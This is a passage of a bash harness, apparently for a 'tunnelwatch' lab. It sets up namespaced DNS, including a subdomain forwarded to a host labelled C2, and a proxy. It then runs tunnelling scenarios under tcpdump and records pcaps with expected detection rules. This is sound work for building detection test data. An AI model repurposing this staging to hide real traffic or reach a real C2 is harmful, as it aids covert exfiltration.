start_bg $NS_GW "$WORK/dnsmasq.log" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv \
    --no-hosts --no-poll --bind-interfaces --listen-address=$GW4 --listen-address=$GW6 \
    --user=root --group=root --pid-file="$WORK/dnsmasq.pid" \
    --local=/lab.test/ --domain=lab.test \
    --server=/t.lab.test/$SRV4 --server=/d.lab.test/$C2 \
    --host-record=www.lab.test,$SRV4,$SRV6 --host-record=mail.lab.test,$SRV4,$SRV6 \
    --host-record=update.lab.test,$SRV4,$SRV6 --host-record=files.lab.test,$SRV4,$SRV6 \
    --host-record=proxy.lab.test,$GW4,$GW6 \
    --mx-host=www.lab.test,mail.lab.test,10 --mx-host=mail.lab.test,mail.lab.test,10 \
    --mx-host=update.lab.test,mail.lab.test,10 --mx-host=files.lab.test,mail.lab.test,10 \
    --txt-record=www.lab.test,"tunnelwatch lab" --txt-record=mail.lab.test,"v=spf1 mx -all"
for spec in tcp:$SRV4:80 tcp:$SRV4:443 tcp:$SRV4:8443 tcp:0.0.0.0:22 tcp:0.0.0.0:8080; do
    wait_ready $NS_OUT "$spec" "" || die "outside service $spec did not come up (see $WORK)"
done
wait_ready $NS_GW tcp:$GW4:3128 "" || die "tinyproxy did not come up: $(tail -3 "$WORK/tinyproxy.log")"
wait_ready $NS_GW udp:$GW4:53 "" || die "dnsmasq did not come up: $(tail -3 "$WORK/dnsmasq.log")"
ip netns exec $NS_IN dig +short +tries=3 +time=1 @$GW4 www.lab.test A >/dev/null || die "dnsmasq does not answer"
ip netns exec $NS_IN env PATH=$PATHS curl -sS -o /dev/null --max-time 5 -x http://$PROXY http://$SRV4/ \
    || die "proxy or web server does not answer"
# warm the neighbour caches before capturing
for ns in $NS_IN $NS_IN2; do
    ip netns exec "$ns" ping -c 1 -W 1 $GW4 >/dev/null || true
    ip netns exec "$ns" ping -c 1 -W 1 $SRV4 >/dev/null || true
done
sleep 1

# ---------------------------------------------------------------------------- capture + run
run_scenario() {
    local name=$1 kind=$2 tool=$3 lane=$4 client=$5 server=$6 via=$7 rules=$8 inc=$9
    local desc=${10} sns=${11} scmd=${12} sready=${13} cmd=${14}
    local ns=$NS_IN ifc=twp-in
    if [[ $lane == B ]]; then ns=$NS_IN2; ifc=twp-in2; fi
    local raw=$WORK/$name.raw.pcap pcap=$OUT/captures/$name.pcap
    local caplog=$WORK/$name.tcpdump.log toollog=$WORK/$name.log slog=$WORK/$name.server.log
    local spid="" cap cpid rc=0 i n t1 secs
    rm -f "$pcap" "$raw"
    if [[ -n $scmd ]]; then
        (cd "$WORK" && exec setsid ip netns exec "$sns" env PATH=$PATHS HOME=/root bash -c "$scmd") >"$slog" 2>&1 &
        spid=$!
        PIDS+=("$spid")
        wait_ready "$sns" "$sready" "$slog" || { echo "$name: server piece not ready ($sready)" >>"$FAILS"; }
    fi
    ip netns exec $NS_SW timeout 300 tcpdump -i "$ifc" -n -Z root -s $SNAP -U -c $MAXPKT -w "$raw" 2>"$caplog" &
    cap=$!
    PIDS+=("$cap")
    i=0
    until grep -q "listening on" "$caplog" 2>/dev/null; do
        sleep 0.1; i=$((i + 1))
        [[ $i -lt 100 ]] || die "tcpdump did not start for $name: $(cat "$caplog")"
    done
    sleep 0.3
    t1=$(date +%s%N)
    # in the background and waited for, so that a signal to this script acts at once
    (cd "$WORK" && exec ip netns exec "$ns" env PATH=$PATHS HOME=/root TERM=xterm bash -c "$cmd") \
        >"$toollog" 2>&1 </dev/null &
    cpid=$!
    PIDS+=("$cpid")
    wait "$cpid" || rc=$?
    forget_pid "$cpid"
    sleep 1
    kill -INT "$cap" 2>/dev/null || true
    wait "$cap" 2>/dev/null || true
    forget_pid "$cap"
    if [[ -n $spid ]]; then
        kill -TERM -- "-$spid" 2>/dev/null || true
        kill -TERM "$spid" 2>/dev/null || true
        wait "$spid" 2>/dev/null || true
        forget_pid "$spid"
        if [[ $sns == "$NS_OUT" ]]; then ip netns exec $NS_OUT sysctl -qw net.ipv4.icmp_echo_ignore_all=0; fi
    fi
    # nothing else runs in the client namespaces: whatever is left there is the scenario's
    kill_ns_procs "$ns"
    n=$(sed -n 's/^\([0-9]*\) packets\{0,1\} captured.*/\1/p' "$caplog")
    secs=$(( ($(date +%s%N) - t1) / 100000000 ))
    secs="$((secs / 10)).$((secs % 10))"
    if [[ -s $raw ]]; then
        $PY "$WORK/tunlab.py" trim "$raw" "$pcap" $KEEPB >>"$caplog"
    fi
    printf '  %-26s %-6s lane %s %6s packets %8s bytes  %5ss  %s%s\n' "$name" "$kind" "$lane" "${n:-0}" \
        "$(stat -c %s "$pcap" 2>/dev/null || echo 0)" "$secs" "$tool" \
        "$([[ $rc -ne 0 ]] && echo " (exit $rc)")" >&2
    if [[ ${n:-0} -eq 0 || ! -s $pcap ]]; then echo "$name: nothing captured" >>"$FAILS"; fi
    if [[ $rc -ne 0 ]]; then echo "$name: $tool exited $rc (see $toollog)" >>"$FAILS"; fi
    $PY "$WORK/tunlab.py" record "$META" name="$name" pcap="captures/$name.pcap" kind="$kind" \
        tool="$tool" netns="$ns" client="$client" server="$server" via="$via" far_end="${FAR[$name]:-}" \
        expect_rules="$rules" incidental_rules="$inc" description="$desc" command="$cmd" \
        server_netns="$sns" server_command="$scmd"
}
run_lane() {
    local s
    local -a f
    for s in "${SCEN[@]}"; do
        IFS=$'\x1f' read -r -a f <<<"$s"
        [[ ${f[3]} == "$1" ]] || continue
        wanted "${f[0]}" || continue
        run_scenario "${f[@]}"
    done
}

log "running scenarios (captured on $NS_SW twp-in / twp-in2, snaplen $SNAP, TCP payload kept: first $KEEPB bytes per direction) into $OUT/captures"
if [[ $SERIAL == 1 ]]; then
    run_lane A
    run_lane B
else
    ( trap - EXIT INT TERM; run_lane B ) &
    LANE_B=$!
    PIDS+=("$LANE_B")
    run_lane A
    wait $LANE_B || echo "lane B: exit $?" >>"$FAILS"
    forget_pid $LANE_B
fi

log ""
log "writing $OUT/truth.json"
rc=0
TW_ORDER="${ORDER[*]}" TW_KEEP=$KEEPB TW_SNAP=$SNAP $PY "$WORK/tunlab.py" truth "$META" "$OUT" >&2 || rc=$?
if [[ -z $ONLY ]]; then
    # captures of scenarios that no longer exist would be stale
    for f in "$OUT"/captures/*.pcap; do
        b=$(basename "$f" .pcap)
        [[ " ${ORDER[*]} " == *" $b "* ]] || { log "removing stale $f"; rm -f "$f"; }
    done
fi
total=$(du -cb "$OUT"/captures/*.pcap 2>/dev/null | tail -1 | cut -f1)
while read -r f; do [[ -n $f ]] && log "FAILED: $f"; done <"$FAILS"
[[ ! -s $FAILS && $rc -eq 0 ]] || { log "run.sh: some scenarios failed"; exit 1; }
log "done in $(( $(date +%s) - T0 ))s; captures: $total bytes"
